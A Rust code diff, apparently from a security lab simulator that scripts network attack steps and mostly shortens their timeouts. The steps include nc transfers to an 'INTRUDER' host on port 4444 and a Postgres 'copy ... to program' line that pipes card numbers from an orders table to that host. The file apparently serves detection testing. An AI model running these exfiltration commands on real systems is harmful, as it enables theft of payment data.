@@ -54,7 +54,8 @@ pub(super) fn steps(seed: u64) -> Vec<Step> {
     let nmap = |ranges: &str| {
         format!(
             "nmap -sT -n -T4 --max-retries 1 --max-rtt-timeout 300ms --host-timeout 20s \
-             -PE -p 22,80,443,5432,6379,8080,9100 {ranges} -oG -"
+             -PE -p 22,80,443,5432,6379,8080,9100 --exclude {} {ranges} -oG -",
+            site::address(entry)
         )
     };
     let mut all = vec![
@@ -116,7 +117,7 @@ pub(super) fn steps(seed: u64) -> Vec<Step> {
             &["redis-1"],
             &[6379],
             "redis-cli",
-            "timeout 6 redis-cli -h 10.20.30.31 get hits | grep .".into(),
+            "timeout 5 redis-cli -h 10.20.30.31 get hits | grep .".into(),
         ),
         step(
             "dev-to-db",
@@ -137,7 +138,7 @@ pub(super) fn steps(seed: u64) -> Vec<Step> {
             &[INTRUDER],
             &[4444],
             "nc",
-            format!("head -c 300000 /dev/urandom | nc -N -w 6 {INTRUDER} 4444"),
+            format!("head -c 300000 /dev/urandom | nc -N -w 5 {INTRUDER} 4444"),
         )
         .via(&["dev-app-1"]),
         step(
@@ -170,7 +171,7 @@ pub(super) fn steps(seed: u64) -> Vec<Step> {
             &[INTRUDER],
             &[4444],
             "nc",
-            format!("head -c 400000 /dev/urandom | nc -N -w 6 {INTRUDER} 4444"),
+            format!("head -c 400000 /dev/urandom | nc -N -w 5 {INTRUDER} 4444"),
         )
         .via(&["bastion-1", target]),
         step(
@@ -192,12 +193,12 @@ pub(super) fn steps(seed: u64) -> Vec<Step> {
         &[INTRUDER],
         &[4444],
         "nc",
-        format!("head -c 200000 /dev/urandom | nc -N -w 6 {INTRUDER} 4444"),
+        format!("head -c 200000 /dev/urandom | nc -N -w 5 {INTRUDER} 4444"),
     );
     out.set_off = Some(psql(
         "pg-billing-1",
         "billing",
-        &format!("copy (select card from orders) to program $$nc -N -w 6 {INTRUDER} 4444$$"),
+        &format!("copy (select card from orders) to program $$nc -N -w 5 {INTRUDER} 4444$$"),
     ));
     all.push(out);
     all
@@ -237,7 +238,7 @@ fn login(target: &str) -> String {
 
 fn psql(server: &str, database: &str, sql: &str) -> String {
     let ip = site::address(server);
-    format!("PGPASSWORD=lab psql -XAtc '{sql}' \"host={ip} user=app dbname={database} connect_timeout=6\"")
+    format!("PGPASSWORD=lab psql -XAtc '{sql}' \"host={ip} user=app dbname={database} connect_timeout=5\"")
 }
 
 impl Step {
